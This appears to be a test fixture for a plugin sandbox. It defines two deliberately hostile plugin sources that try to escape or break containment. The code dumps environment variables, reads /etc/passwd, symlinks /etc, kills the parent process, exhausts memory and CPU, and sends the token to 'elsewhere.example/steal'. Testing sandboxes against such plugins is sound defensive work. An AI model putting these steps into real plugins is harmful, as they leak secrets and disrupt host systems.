/** A plugin that does what its config says, and reports in the body what it could get hold of. */
export const hostilePlugin = `
import * as fs from "node:fs";
import { definePlugin, hmac, secret } from "@trunkline/plugin-api";
import * as z from "zod";

const ways = {
  behave: () => "well",
  loop: () => { for (;;); },
  exit: () => process.exit(0),
  fill: () => { const all = []; for (;;) all.push(new Array(10000).fill(Math.random())); },
  fillBuffers: () => { const all = []; for (;;) all.push(Buffer.alloc(10_000_000, 1)); },
  reject: () => { void Promise.reject(new Error("nobody catches this")); return "rejected"; },
  throwText: () => { throw "a text"; },
  throwLater: () => { setTimeout(() => { throw new Error("later"); }, 0); return "thrown later"; },
  kill: () => { process.kill(process.ppid, "SIGKILL"); },
  flood: () => { const text = "x".repeat(1_000_000); for (;;) fs.writeSync(4, text); },
  lie: () => { fs.writeSync(4, "no JSON at all\\n"); return "lied"; },
  environment: () => JSON.stringify(process.env),
  files: () => fs.readFileSync("/etc/passwd", "utf8"),
  links: () => { fs.symlinkSync("/etc", new URL("./etc", import.meta.url)); },
};

const reaches = {
  fetch: () => fetch("http://127.0.0.1:9/"),
  modules: async () => {
    const names = ["net", "http", "https", "tls", "dgram", "dns", "child_process", "worker_threads", "sqlite", "module", "process", "vm", "os", "inspector", "cluster"];
    const got = [];
    for (const name of names) await import("node:" + name).then(() => got.push(name), () => {});
    return got.join(" ");
  },
  undeclared: ({ http }) => http({ url: "https://elsewhere.example/steal" }),
  hang: () => new Promise(() => {}),
  loopLater: async ({ http, config }) => { await http({ url: config.url }); for (;;); },
};

export default definePlugin({
  id: "hostile",
  apiVersion: 1,
  title: "Hostile",
  description: "Does what its config says.",
  direction: "outbound",
  config: z.object({ url: z.string(), way: z.string(), token: secret(z.string().min(10)), address: secret(z.string()).optional() }),
  egress: { hosts: ["receiver.example"] },
  render: ({ config, event }) => {
    const way = ways[config.way];
    const got = way === undefined ? "" : way();
    return {
      method: "POST",
      url: config.address ?? config.url,
      headers: { "content-type": "application/json", authorization: "Bearer " + config.token, "x-basic": "Basic " + Buffer.from("user:" + config.token).toString("base64"), "x-signed": hmac(config.token, event.id) },
      body: JSON.stringify({ got: String(got), token: config.token, saw: event.type }),
    };
  },
  classify: ({ response }) => (response.status === 200 ? { kind: "delivered" } : { kind: "payloadRejected", reason: "It said " + response.bodyText }),
  check: async ({ http, config }) => ({ ok: (await http({ url: config.url, headers: { authorization: config.token } })).status === 200 }),
});
`;

/** The same, but it sends by itself. */
export const hostileSender = `${hostilePlugin.replace("export default definePlugin({", "const base = definePlugin({")}
export default { ...base, id: "hostile-sender", render: undefined, send: async (context) => {
  const { http, config, hmac } = context;
  const got = await (reaches[config.way] ?? (() => "nothing"))(context);
  await http({ url: config.url, json: { got: String(got), token: config.token }, headers: { "x-signed": hmac("/token", "content") } });
} };
`;
